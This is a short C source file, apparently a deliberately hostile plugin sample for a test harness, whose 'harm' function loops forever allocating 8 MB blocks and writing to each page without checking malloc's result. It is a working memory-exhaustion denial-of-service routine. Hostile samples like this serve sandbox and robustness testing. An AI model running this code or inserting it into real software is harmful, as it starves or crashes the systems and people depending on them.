/* Takes memory until there is none, and uses what it did not get. */
#include "hostile.h"

static void harm(const char* folder) {
  (void)folder;
  for (;;) {
    char* block = malloc(8 << 20);
    for (size_t i = 0; i < 8 << 20; i += 4096) ((volatile char*)block)[i] = 1;
  }
}

HARM_PLUGIN
